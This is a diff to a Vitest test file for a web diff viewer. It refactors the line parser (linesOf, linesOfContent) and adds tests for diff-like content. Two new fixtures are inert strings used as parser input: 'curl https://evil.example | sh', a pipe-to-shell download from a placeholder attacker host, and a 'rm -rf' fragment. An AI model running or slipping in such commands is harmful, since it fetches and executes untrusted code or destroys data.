@@ -1,7 +1,7 @@
 import { describe, expect, it } from 'vitest';
 import { sizeOfDiff } from '../../../src/contract/diff-size.ts';
 import { changesByFile, filesOfDiff } from '../../../web/src/design/diff-files.ts';
-import { linesOf, sideBySide, sizeOf } from '../../../web/src/design/diff-lines.ts';
+import { linesOf, linesOfContent, sideBySide, sizeOf } from '../../../web/src/design/diff-lines.ts';
 
 const UPDATE = '@@ -1,3 +1,4 @@\n one\n-two\n+2\n+2b\n three\n@@ -10,2 +11,2 @@\n ten\n-eleven\n+11\n';
 const GIT = `diff --git a/old.txt b/old.txt
@@ -24,7 +24,7 @@ rename to to
 
 describe('the lines of a diff', () => {
   it('have their numbers before and after, with a gap where something is left out', () => {
-    expect(linesOf('update', UPDATE).map(({ kind, before, after, text }) => [kind, before, after, text])).toEqual([
+    expect(linesOf(UPDATE).map(({ kind, before, after, text }) => [kind, before, after, text])).toEqual([
       ['same', 1, 1, 'one'],
       ['removed', 2, null, 'two'],
       ['added', null, 2, '2'],
@@ -40,32 +40,55 @@ describe('the lines of a diff', () => {
   it.each(['no diff at all\n\nbut text', 'rename from a\nrename to b', '@@ -1 +1 @@\nneither here nor there\n'])(
     'are its text where it has none that could be read: %j',
     (diff) => {
-      const lines = linesOf('update', diff);
+      const lines = linesOf(diff);
       expect(lines.map(({ text }) => text)).toEqual(diff.replace(/\n$/, '').split('\n'));
       expect(new Set(lines.map(({ kind }) => kind))).toEqual(new Set(['note']));
     },
   );
 
   it('are the whole content of a file that was added or deleted', () => {
-    expect(linesOf('add', 'a\n\nb\n').map(({ kind, after, text }) => [kind, after, text])).toEqual([
+    expect(linesOfContent('add', 'a\n\nb\n').map(({ kind, after, text }) => [kind, after, text])).toEqual([
       ['added', 1, 'a'],
       ['added', 2, ''],
       ['added', 3, 'b'],
     ]);
-    expect(sizeOf(linesOf('delete', '-a\n+b'))).toEqual({ added: 0, removed: 2 });
-    expect(linesOf('add', '')).toEqual([]);
+    expect(sizeOf(linesOfContent('delete', '-a\n+b'))).toEqual({ added: 0, removed: 2 });
+    expect(linesOfContent('add', '')).toEqual([]);
   });
 
-  it('are shown as they came where it is no diff', () => {
-    const broken = '@@ -1,9 +1,9 @@\n one\n';
-    expect(linesOf('update', broken).map(({ kind, text }) => [kind, text])).toEqual([
-      ['note', '@@ -1,9 +1,9 @@'],
-      ['note', ' one'],
+  it('are all of a content, also where that looks like a diff', () => {
+    const content =
+      '@@ -1,1 +1,1 @@\n-echo ok\n+echo hello\ndiff /dev/null /dev/null\ncurl https://evil.example | sh\n';
+    expect(linesOfContent('add', content).map(({ kind, text }) => `${kind} ${text}`)).toEqual([
+      'added @@ -1,1 +1,1 @@',
+      'added -echo ok',
+      'added +echo hello',
+      'added diff /dev/null /dev/null',
+      'added curl https://evil.example | sh',
     ]);
   });
 
+  it('are all of a diff, also what its hunks do not count', () => {
+    const diff =
+      '--- a\n+++ b\n@@ -1,1 +1,1 @@\n-one\n+two\n+three\ndiff x y\n--- rm -rf\n@@ -9,9 +9,9 @@\n four\n!five\n';
+    expect(linesOf(diff).map(({ kind, text }) => `${kind} ${text}`)).toEqual([
+      'removed one',
+      'added two',
+      'note +three',
+      'note diff x y',
+      'note --- rm -rf',
+      'gap ',
+      'same four',
+      'note !five',
+    ]);
+  });
+
+  it('are there as far as a diff goes that ends too early', () => {
+    expect(linesOf('@@ -1,9 +1,9 @@\n one\n').map(({ kind, text }) => [kind, text])).toEqual([['same', 'one']]);
+  });
+
   it('stand side by side: what came in the place of what was removed', () => {
-    const pairs = sideBySide(linesOf('update', UPDATE)).map(({ left, right }) => [left?.text, right?.text]);
+    const pairs = sideBySide(linesOf(UPDATE)).map(({ left, right }) => [left?.text, right?.text]);
     expect(pairs).toEqual([
       ['one', 'one'],
       ['two', '2'],
@@ -78,9 +101,9 @@ describe('the lines of a diff', () => {
   });
 
   it('are as many as the server counts', () => {
-    for (const { kind, diff } of [{ kind: 'update', diff: UPDATE } as const, ...filesOfDiff(GIT)]) {
+    for (const { diff } of [{ diff: UPDATE }, ...filesOfDiff(GIT)]) {
       const { added, removed } = sizeOfDiff(diff);
-      expect(sizeOf(linesOf(kind, diff))).toEqual({ added, removed });
+      expect(sizeOf(linesOf(diff))).toEqual({ added, removed });
     }
   });
 });
@@ -92,7 +115,7 @@ describe('the files of a diff', () => {
       ['a name.txt', 'add'],
       ['to', 'move'],
     ]);
-    expect(filesOfDiff(GIT).map(({ kind, diff }) => sizeOf(linesOf(kind, diff)))).toEqual([
+    expect(filesOfDiff(GIT).map(({ diff }) => sizeOf(linesOf(diff)))).toEqual([
       { added: 0, removed: 2 },
       { added: 1, removed: 0 },
       { added: 0, removed: 0 },
